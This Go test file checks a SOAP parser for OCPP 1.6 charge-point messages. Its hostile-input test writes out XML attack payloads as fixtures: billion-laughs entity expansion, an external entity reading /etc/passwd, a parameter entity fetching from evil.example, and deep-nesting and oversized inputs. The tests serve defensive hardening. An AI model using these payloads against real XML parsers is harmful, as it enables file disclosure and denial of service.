package soap

import (
	"strings"
	"testing"
)

const (
	begin16 = `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing" xmlns:c="urn://Ocpp/Cp/2015/10/">`
	head16  = `<s:Header><c:chargeBoxIdentity>CP1</c:chargeBoxIdentity><a:Action>/Reset</a:Action></s:Header>`
	reset16 = `<c:resetRequest><c:type>Soft</c:type></c:resetRequest>`
	end16   = `</s:Envelope>`
)

// within returns an envelope with a body and, if any, headers.
func within(headers, body string) string {
	if headers != "" {
		headers = "<s:Header>" + headers + "</s:Header>"
	}
	return begin16 + headers + "<s:Body>" + body + "</s:Body>" + end16
}

func repeat(s string, n int) string { return strings.Repeat(s, n) }

// TestHostileXML: what a hostile CSMS may send as a SOAP envelope is refused with a fault that says why.
func TestHostileXML(t *testing.T) {
	plain := within("", reset16)
	for name, c := range map[string]struct{ raw, want string }{
		"empty":                     {"", "unexpected end"},
		"white space":               {" \n", "unexpected end"},
		"text":                      {"hello", "text outside"},
		"JSON":                      {`[2,"1","Reset",{"type":"Soft"}]`, "text outside"},
		"HTML":                      {`<html><body>502</body></html>`, "not a SOAP envelope"},
		"document type":             {`<!DOCTYPE x>` + plain, "document type declaration"},
		"billion laughs":            {`<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>` + within("", `<c:resetRequest><c:type>&b;</c:type></c:resetRequest>`), "document type declaration"},
		"external entity":           {`<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + within("", `<c:resetRequest><c:type>&x;</c:type></c:resetRequest>`), "document type declaration"},
		"parameter entity":          {`<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>` + plain, "document type declaration"},
		"entity without definition": {within("", `<c:resetRequest><c:type>&x;</c:type></c:resetRequest>`), "entity"},
		"entity of HTML":            {within("", `<c:resetRequest><c:type>&nbsp;</c:type></c:resetRequest>`), "entity"},
		"character zero":            {within("", `<c:resetRequest><c:type>&#0;</c:type></c:resetRequest>`), "not well-formed"},
		"processing instruction":    {within("", `<?php x?>`+reset16), "processing instruction"},
		"style sheet":               {`<?xml version="1.0"?><?xml-stylesheet href="x"?>` + plain, "processing instruction"},
		"second declaration":        {`<?xml version="1.0"?><?xml version="1.0"?>` + plain, "processing instruction"},
		"XML 1.1":                   {`<?xml version="1.1"?>` + plain, "not XML 1.0"},
		"UTF-16 declared":           {`<?xml version="1.0" encoding="UTF-16"?>` + plain, "not XML 1.0"},
		"UTF-16":                    {"\xFF\xFE<\x00s\x00", "not"},
		"Latin 1":                   {within("", "<c:resetRequest><c:type>So\xFFt</c:type></c:resetRequest>"), "UTF-8"},
		"overlong UTF-8":            {within("", "<c:resetRequest><c:type>\xC0\xAF</c:type></c:resetRequest>"), "UTF-8"},
		"lone surrogate":            {within("", "<c:resetRequest><c:type>\xED\xA0\x80</c:type></c:resetRequest>"), "UTF-8"},
		"control character":         {within("", "<c:resetRequest><c:type>\x01</c:type></c:resetRequest>"), "not well-formed"},
		"deep":                      {within("", repeat("<c:a>", 200)+repeat("</c:a>", 200)), "is no message"},
		"deep header":               {within(repeat("<c:a>", 200)+repeat("</c:a>", 200), reset16), "too deep"},
		"deep envelope":             {repeat("<a>", 100000), "not a SOAP envelope"},
		"many headers":              {within(repeat("<a:x/>", 1000), reset16), "too long|headers"},
		"huge name":                 {within("", "<c:"+repeat("a", 5000)+"/>"), "name too long"},
		"huge prefix":               {within("<"+repeat("p", 5000)+":x/>", reset16), "name too long"},
		"many attributes":           {within("<a:x "+repeat(`b="1" `, 1000)+"/>", reset16), "too many attributes"},
		"attribute twice":           {within(`<a:x b="1" b="2"/>`, reset16), "attribute given twice"},
		"many name spaces":          {repeatNS(200) + plain + repeat("</x>", 200), "not a SOAP envelope"},
		"prefix without name space": {within("<q:x/>", reset16), "without a name space"},
		"prefix undeclared":         {within(`<a:x xmlns:a=""/>`, reset16), "declaration of prefix"},
		"prefix xml":                {within(`<a:x xmlns:xml="urn:x"/>`, reset16), "declaration of prefix"},
		"two colons":                {within(`<a:b:c/>`, reset16), "not"},
		"tags cross":                {within("<a:x><a:y></a:x></a:y>", reset16), "closed by"},
		"prefix of end tag":         {strings.Replace(plain, "</c:resetRequest>", "</s:resetRequest>", 1), "want|closed by"},
		"cut off":                   {plain[:len(plain)-5], "unexpected EOF|unexpected end"},
		"end without begin":         {plain + "</x>", "end without begin"},
		"text after":                {plain + "x", "text outside"},
		"second document":           {plain + plain, "second document"},
		"text between elements":     {within("", "x"+reset16), "text between"},
		"text in a header":          {begin16 + "<s:Header>x</s:Header><s:Body>" + reset16 + "</s:Body>" + end16, "text between"},
		"SOAP 1.1":                  {strings.ReplaceAll(plain, nsSOAP12, nsSOAP11), "VersionMismatch"},
		"no name space":             {`<Envelope><Body><resetRequest/></Body></Envelope>`, "VersionMismatch"},
		"no body":                   {begin16 + head16 + end16, "without a body"},
		"body first":                {begin16 + "<s:Body>" + reset16 + "</s:Body>" + head16 + end16, "after the body"},
		"two bodies":                {begin16 + "<s:Body>" + reset16 + "</s:Body><s:Body>" + reset16 + "</s:Body>" + end16, "after the body"},
		"empty body":                {within("", ""), "empty body"},
		"two messages":              {within("", reset16+reset16), "more than one element"},
		"identity twice":            {within("<c:chargeBoxIdentity>CP1</c:chargeBoxIdentity><c:chargeBoxIdentity>CP2</c:chargeBoxIdentity>", reset16), "given twice"},
		"identity spelled twice":    {within("<c:chargeBoxIdentity/><c:CHARGEBOXIDENTITY>CP2</c:CHARGEBOXIDENTITY>", reset16), "given twice"},
		"action twice":              {within("<a:Action>/Reset</a:Action><a:Action>/ClearCache</a:Action>", reset16), "given twice"},
		"identity with elements":    {within("<c:chargeBoxIdentity>C<a:x/>P1</c:chargeBoxIdentity>", reset16), "where text belongs"},
		"long identity":             {within("<c:chargeBoxIdentity>"+repeat("x", 5000)+"</c:chargeBoxIdentity>", reset16), "header too long"},
		"must understand":           {within(`<w:Security xmlns:w="urn:wsse" s:mustUnderstand="1"/>`, reset16), "MustUnderstand"},
		"action of another message": {within("<a:Action>/ClearCache</a:Action>", reset16), "ProtocolError: action"},
		"body without name space":   {within("", `<resetRequest><type>Soft</type></resetRequest>`), "is none of OCPP"},
		"body of another world":     {within("", `<x:resetRequest xmlns:x="urn:x"/>`), "is none of OCPP"},
		"other service":             {within("", `<x:heartbeatRequest xmlns:x="urn://Ocpp/Cs/2015/10/"/>`), "other service"},
		"child of another version":  {within("", `<c:resetRequest><x:type xmlns:x="urn://Ocpp/Cp/2012/06/">Soft</x:type></c:resetRequest>`), "want urn://Ocpp/Cp/2015/10/"},
		"child without name space":  {within("", `<c:resetRequest><type>Soft</type></c:resetRequest>`), "want urn://Ocpp/Cp/2015/10/"},
		"unknown operation":         {within("", `<c:selfDestructRequest/>`), "NotSupported: no operation"},
		"operation of 2.x":          {within("", `<c:getBaseReportRequest/>`), "NotSupported: no operation"},
		"capital":                   {within("", `<c:ResetRequest><c:type>Soft</c:type></c:ResetRequest>`), "is no message"},
		"no message":                {within("", `<c:reset/>`), "is no message"},
		"only a suffix":             {within("", `<c:Request/>`), "is no message"},
		"both suffixes":             {within("", `<c:resetResponseRequest/>`), "is no message"},
		"missing":                   {within("", `<c:resetRequest/>`), "type is missing"},
		"nil where needed":          {within("", `<c:resetRequest><c:type xmlns:i="`+nsXSI+`" i:nil="true"/></c:resetRequest>`), "type is missing"},
		"nil that is not":           {within("", `<c:resetRequest><c:type xmlns:i="`+nsXSI+`" i:nil="1">Soft</c:type></c:resetRequest>`), "is nil and is not"},
		"twice":                     {within("", `<c:resetRequest><c:type>Soft</c:type><c:type>Hard</c:type></c:resetRequest>`), "type given twice"},
		"unknown element":           {within("", `<c:resetRequest><c:type>Soft</c:type><c:x/></c:resetRequest>`), "unknown element"},
		"unknown attribute":         {within("", `<c:resetRequest kind="x"><c:type>Soft</c:type></c:resetRequest>`), "unknown attribute"},
		"element in text":           {within("", `<c:resetRequest><c:type><c:x/></c:type></c:resetRequest>`), "where text belongs"},
		"text in an object":         {within("", `<c:resetRequest>Soft</c:resetRequest>`), "text between"},
		"no integer":                {within("", `<c:unlockConnectorRequest><c:connectorId>one</c:connectorId></c:unlockConnectorRequest>`), "no integer"},
		"empty integer":             {within("", `<c:unlockConnectorRequest><c:connectorId/></c:unlockConnectorRequest>`), "no integer"},
		"large integer":             {within("", `<c:unlockConnectorRequest><c:connectorId>2147483648</c:connectorId></c:unlockConnectorRequest>`), "no integer"},
		"hexadecimal":               {within("", `<c:unlockConnectorRequest><c:connectorId>0x1</c:connectorId></c:unlockConnectorRequest>`), "no integer"},
		"too long":                  {plain + repeat(" ", MaxEnvelope), "envelope too long"},
	} {
		m, err := Parse([]byte(c.raw), ChargePoint)
		if err == nil {
			t.Errorf("%s: accepted as %+v", name, m)
			continue
		}
		if m.Payload != nil || m.Fault != nil {
			t.Errorf("%s: refused, and yet %+v", name, m)
		}
		ok := false
		for want := range strings.SplitSeq(c.want, "|") {
			ok = ok || strings.Contains(err.Error(), want)
		}
		if !ok {
			t.Errorf("%s: %q, want %q", name, err, c.want)
		}
		if len(err.Error()) > 400 {
			t.Errorf("%s: a fault of %d bytes", name, len(err.Error()))
		}
	}
}

// repeatNS opens n elements, each of which declares a prefix.
func repeatNS(n int) string {
	return repeat(`<x xmlns:p`+repeat("q", 3)+`="urn:x">`, n)
}

// TestWellFormedOddities: what XML and SOAP allow, however it looks, says the same.
func TestWellFormedOddities(t *testing.T) {
	plain := within("", reset16)
	for name, raw := range map[string]string{
		"plain":             plain,
		"byte order mark":   "\xEF\xBB\xBF" + plain,
		"declaration":       `<?xml version="1.0" encoding="utf-8" standalone="yes"?>` + "\n" + plain,
		"comments":          `<!-- a --><!-- b -->` + within("<!-- c -->", `<c:resetRequest><!-- d --><c:type>So<!-- e -->ft</c:type></c:resetRequest>`) + `<!-- f -->`,
		"CDATA":             within("", `<c:resetRequest><c:type>S<![CDATA[of]]>t</c:type></c:resetRequest>`),
		"references":        within("", `<c:resetRequest><c:type>&#83;&#x6f;ft</c:type></c:resetRequest>`),
		"white space":       strings.ReplaceAll(plain, "><c:t", ">\r\n\t <c:t"),
		"default":           `<Envelope xmlns="` + nsSOAP12 + `"><Body><resetRequest xmlns="urn://Ocpp/Cp/2015/10/"><type>Soft</type></resetRequest></Body></Envelope>`,
		"no last slash":     strings.ReplaceAll(plain, "2015/10/", "2015/10"),
		"prefix again":      within("", `<c:resetRequest><s:type xmlns:s="urn://Ocpp/Cp/2015/10/">Soft</s:type></c:resetRequest>`),
		"foreign attribute": strings.Replace(plain, "<s:Body>", `<s:Body xmlns:u="urn:wsu" u:Id="b">`, 1),
		"type":              within("", `<c:resetRequest><c:type xmlns:i="`+nsXSI+`" i:type="c:ResetType">Soft</c:type></c:resetRequest>`),
		"unknown header":    within(`<w:x xmlns:w="urn:w"><w:y>1</w:y></w:x>`, reset16),
		"header for others": within(`<w:x xmlns:w="urn:w" s:role="urn:proxy" s:mustUnderstand="true"/>`, reset16),
		"action, no slash":  within(`<a:Action s:mustUnderstand="true">Reset</a:Action>`, reset16),
		"old addressing":    strings.ReplaceAll(within(`<a:Action>/Reset</a:Action>`, reset16), nsWSA, nsOldWSA),
	} {
		m, err := Parse([]byte(raw), ChargePoint)
		if err != nil || m.Operation != "Reset" || m.Version != V16 || string(m.Payload) != `{"type":"Soft"}` {
			t.Errorf("%s: %s %q %v", name, m.Operation, m.Payload, err)
		}
	}
}

func TestScalars(t *testing.T) {
	for _, c := range []struct{ kind, in, want string }{
		{"integer", " +7\n", "7"}, {"integer", "-007", "-7"}, {"integer", "2147483647", "2147483647"},
		{"decimal", "+16.50", "16.50"}, {"decimal", ".5", "0.5"}, {"decimal", "6.", "6"}, {"decimal", "-00.1", "-0.1"},
		{"decimal", "1e3", ""}, {"decimal", ".", ""}, {"decimal", "+-1", ""}, {"decimal", "NaN", ""}, {"decimal", "INF", ""},
		{"decimal", "99999999999999999999", ""},
		{"boolean", "1", "true"}, {"boolean", " false ", "false"}, {"boolean", "TRUE", ""}, {"boolean", "", ""},
		{"instant", " 2026-01-02T03:04:05 ", `"2026-01-02T03:04:05Z"`}, {"instant", "2026-01-02T03:04:05.25", `"2026-01-02T03:04:05.25Z"`},
		{"instant", "2026-01-02T03:04:05+02:00", `"2026-01-02T03:04:05+02:00"`}, {"instant", "soon", `"soon"`},
		{"text", " a ", `" a "`},
	} {
		r := newReader(nil)
		k := map[string]kind{"integer": integer, "decimal": decimal, "boolean": boolean, "instant": instant, "text": text}[c.kind]
		got := string(r.scalar(nil, field{name: "x", kind: k}, c.in))
		if r.err != nil {
			got = ""
		}
		if got != c.want {
			t.Errorf("%s %q: %s, want %s", c.kind, c.in, got, c.want)
		}
	}
}

func TestFaultsOfPeers(t *testing.T) {
	for name, c := range map[string]struct {
		raw  string
		want Fault
	}{
		"ours": {string(AppendFault(nil, V16, CentralSystem, Header{}, Fault{Receiver, InternalError, "no <x>"})), Fault{Receiver, InternalError, "no <x>"}},
		"any subcode": {within("", `<s:Fault><s:Code><s:Value>s:Sender</s:Value><s:Subcode><s:Value>x:Weird</s:Value></s:Subcode></s:Code>`+
			`<s:Reason><s:Text xml:lang="de">nein</s:Text><s:Text xml:lang="en">no</s:Text></s:Reason><s:Detail><x>1</x></s:Detail></s:Fault>`), Fault{Sender, "Weird", "nein"}},
		"nested": {within("", `<s:Fault><s:Code><s:Value>s:Sender</s:Value><s:Subcode><s:Value>c:Outer</s:Value><s:Subcode><s:Value>c:SecurityError</s:Value></s:Subcode></s:Subcode></s:Code></s:Fault>`),
			Fault{Sender, SecurityError, ""}},
		"none": {within("", `<s:Fault><s:Code><s:Value>s:Receiver</s:Value></s:Code><s:Reason><s:Text>x</s:Text></s:Reason></s:Fault>`), Fault{Receiver, "", "x"}},
	} {
		m, err := Parse([]byte(c.raw), CentralSystem)
		if err != nil || m.Fault == nil || *m.Fault != c.want {
			t.Errorf("%s: %+v %v", name, m.Fault, err)
		}
	}
}

func TestFaultCodes(t *testing.T) {
	for code, want := range map[string]Fault{
		"NotImplemented": {Receiver, NotSupported, "x"}, "NotSupported": {Receiver, NotSupported, "x"},
		"InternalError": {Receiver, InternalError, "x"}, "GenericError": {Receiver, InternalError, "x"},
		"SecurityError": {Sender, SecurityError, "x"}, "FormatViolation": {Sender, ProtocolError, "x"},
		"TypeConstraintViolation": {Sender, ProtocolError, "x"}, "Unheard": {Sender, ProtocolError, "x"},
	} {
		if got := FaultOf(rpcCode(code), "x"); got != want {
			t.Errorf("%s: %+v", code, got)
		}
	}
	for sub, want := range map[string]string{
		SecurityError: "SecurityError", IdentityMismatch: "GenericError", ProtocolError: "ProtocolError",
		InternalError: "InternalError", NotSupported: "NotSupported", "Weird": "GenericError", "": "GenericError",
	} {
		if got := (&Fault{Sender, sub, ""}).ErrorCode(); string(got) != want {
			t.Errorf("%s: %s", sub, got)
		}
	}
}
